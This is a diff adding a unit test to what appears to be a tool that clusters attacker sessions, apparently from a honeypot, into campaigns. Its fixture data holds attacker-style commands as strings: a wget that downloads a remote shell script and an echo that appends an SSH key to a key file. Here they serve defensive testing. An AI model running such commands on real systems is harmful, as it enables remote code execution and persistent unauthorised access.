@@ -123,6 +123,17 @@ describe('joining', () => {
     expect([...memory.campaigns.keys()]).toEqual([older]);
   });
 
+  it('does not melt two campaigns that do different things, whoever shows the evidence of both', () => {
+    const { join, memory } = world();
+    const [fetches, plants] = ['wget http://198.41.0.4/a.sh', `echo "ssh-rsa ${blob('Cq7')}" >> k`];
+    join(visit('10.1.0.1', [...scriptOf(1), fetches]));
+    join(visit('10.2.0.1', [...scriptOf(2), plants]));
+    const joined = Array.from({ length: 9 }, (_, n) => join(visit(`10.3.0.${n}`, [fetches, plants])));
+    expect(joined.flatMap((one) => one?.merges ?? [])).toEqual([]);
+    expect(joined.some((one) => (one?.bridges.length ?? 0) > 0)).toBe(true);
+    expect(memory.campaigns.size).toBe(2);
+  });
+
   it('gives what one visitor slipped into a campaign little weight', () => {
     const { join, memory } = world();
     for (let n = 0; n < 5; n++) join(visit(`10.1.0.${n}`, ['wget http://198.41.0.4/a.sh']));
